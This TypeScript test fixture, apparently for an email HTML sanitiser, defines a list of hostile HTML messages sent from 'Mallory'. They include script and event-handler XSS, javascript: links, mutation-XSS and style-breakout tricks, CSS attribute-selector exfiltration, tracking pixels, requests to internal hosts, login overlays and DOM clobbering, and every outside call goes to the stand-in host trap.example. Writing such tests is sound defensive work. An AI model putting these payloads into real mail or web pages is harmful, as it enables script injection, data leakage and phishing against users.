// Messages that try to act when they are looked at. Each holds `seen`, a harmless text that the reader must be shown: a message of which nothing
// is left is no protection. Everything that they ask for lies below trap.example and its kin, where the tests listen.

export interface Attack {
  readonly name: string;
  readonly html: string;
  /** Default: the name. */
  readonly seen?: string;
}

const HOST = "trap.example";
const URL_ = `https://${HOST}`;
const RUN = "top.document.title='run';window.ran=1;fetch('https://trap.example/run')";
/** As an attribute. */
const run = RUN.replaceAll("'", "&apos;");

/** Each in a message of its own. */
export const ATTACKS: readonly Attack[] = [
  { name: "script", html: `<p>script</p><script>${RUN}</script><script src="${URL_}/x.js"></script>` },
  {
    name: "handlers",
    html: `<p onclick="${run}" onmouseover="${run}">handlers</p><img src="x" onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">`,
  },
  {
    name: "form",
    html: `<p>form</p><form action="${URL_}/f" id="f"><input autofocus onfocus="${run}"><button formaction="javascript:${run}">Send</button></form><input form="f" type="image" src="${URL_}/i.png">`,
  },
  { name: "refresh", html: `<meta http-equiv="refresh" content="0;url=${URL_}/r"><p>refresh</p>` },
  { name: "base", html: `<base href="${URL_}/"><p>base</p><img src="b.png"><a href="b">relative</a>` },
  {
    name: "svg",
    html: `<p>svg</p><svg onload="${run}"><script>${RUN}</script><image href="${URL_}/s.png"/><use href="data:image/svg+xml,x#y"/><foreignObject><iframe src="${URL_}"></iframe></foreignObject><animate onbegin="${run}"/></svg><img src="data:image/svg+xml;base64,PHN2Zy8+">`,
  },
  {
    name: "math",
    html: `<p>math</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  },
  {
    name: "frames",
    html: `<p>frames</p><iframe src="${URL_}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${URL_}/o"></object><embed src="${URL_}/e"><portal src="${URL_}"></portal><frameset><frame src="${URL_}">`,
  },
  {
    name: "links-within",
    html: `<p>links-within</p><link rel="stylesheet" href="${URL_}/l.css"><link rel="prefetch" href="${URL_}/p"><link rel="dns-prefetch" href="//dns.${HOST}"><link rel="preconnect" href="${URL_}">`,
  },
  {
    name: "css-import",
    html: `<style>@import url(${URL_}/a.css);@import "//${HOST}/b.css";@charset "x";p{color:green}</style><p>css-import</p>`,
  },
  {
    name: "css-exfiltration",
    html: `<style>@font-face{font-family:f;src:url(${URL_}/f.woff);unicode-range:U+61}p{font-family:f}p[title^="a"]{background:url(${URL_}/a.png)}p{background:u\\72l(${URL_}/u.png);--x:url(${URL_}/v.png);border-image:var(--x);list-style:image-set("${URL_}/s.png" 1x)}p::after{content:url(${URL_}/c.png)}</style><p title="abc">css-exfiltration</p>`,
  },
  {
    name: "css-attributes",
    html: `<p style="background:url('${URL_}/s.png');behavior:url(${URL_});width:expression(alert(1))">css-attributes</p><table background="//${HOST}/t.png"><tr><td style="background-image:url(&quot;//${HOST}/d.png&quot;)">cell</td></tr></table><p style="color:red}x{background:url(${URL_}/y.png)">end</p>`,
  },
  {
    name: "style-ends",
    html: `<style>p{color:red}</style><style>x{content:"</style><img src=x onerror=${run}>"}</style><style>a[title="&lt;/style&gt;&lt;script&gt;${RUN}&lt;/script&gt;"]{color:red}</style><p>style-ends</p>`,
  },
  {
    name: "script-links",
    html: `<p>script-links</p><a href="javascript:${run}">one</a><a href="java&#10;script:${run}">two</a><a href="data:text/html,<script>${run}</script>">three</a><a href="vbscript:x">four</a><a href="&#1;javascript:${run}">five</a><a href="blob:x">six</a><a href="file:///etc/passwd">seven</a><area href="javascript:${run}"><a xlink:href="javascript:${run}">eight</a>`,
  },
  {
    name: "pixels",
    html: `<p>pixels</p><img src="${URL_}/1.gif?u=1" width="1" height="1"><img src="//${HOST}/2.gif"><img srcset="${URL_}/3.png 1x, ${URL_}/4.png 2x" src="x"><picture><source srcset="${URL_}/5.png"><img src="http://${HOST}/6.png"></picture><video poster="${URL_}/7.png" src="${URL_}/v"></video><audio src="${URL_}/a" autoplay></audio><input type="image" src="${URL_}/8.png"><img src="https://user:x@${HOST}/9.png"><body background="${URL_}/10.png">`,
  },
  {
    name: "own-server",
    html: `<p>own-server</p><img src="/api/v1/sign-out"><img src="api/v1/me"><img src="//127.0.0.1/router"><img src="http://192.168.1.1/reboot"><img src="http://localhost:9/x"><img src="http://router/x"><a href="/api/v1/me">inner</a>`,
  },
  {
    name: "overlay",
    html: `<p>overlay</p><div style="position:fixed;inset:0;background:#fff;z-index:9999"><a href="${URL_}/login">Sign in again</a></div><style>body::before{content:"x";position:absolute;inset:0;background:#fff}div{margin:-500px 0 0 -500px;transform:translateY(-99px)}</style><dialog open>Sign in</dialog><div popover id="p">x</div>`,
  },
  {
    name: "directions",
    html: `<p>directions</p><p>\u202eevil\u202c <bdo dir="rtl">gpj.exe</bdo> <span style="unicode-bidi:bidi-override;direction:rtl">moc.live</span></p>`,
  },
  {
    name: "clobbering",
    html: `<p>clobbering</p><a id="document" name="cookie"></a><form id="parentNode"><input name="attributes"><input name="childNodes"></form><img name="querySelectorAll"><img name="body">`,
  },
  {
    name: "broken",
    html: `<p>broken<div><!--[if IE]><script>${RUN}</script><![endif]--><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><template><script>${RUN}</script></template><xmp><script>${RUN}</script></xmp><textarea></textarea><select><style></select><img src=x onerror=${run}></style>`,
  },
  { name: "deep", html: `${"<div>".repeat(3_000)}<p>deep</p>`, seen: "deep" },
];

/** A message of HTML. */
export const messageOf = ({ name, html }: Attack): Buffer =>
  Buffer.from(
    [
      "From: Mallory <mallory@trap.example>",
      "To: you@example.com",
      `Subject: ${name}`,
      "Date: Tue, 03 Feb 2026 04:05:06 +0000",
      "Content-Type: text/html; charset=utf-8",
      "",
      html,
    ].join("\r\n"),
  );
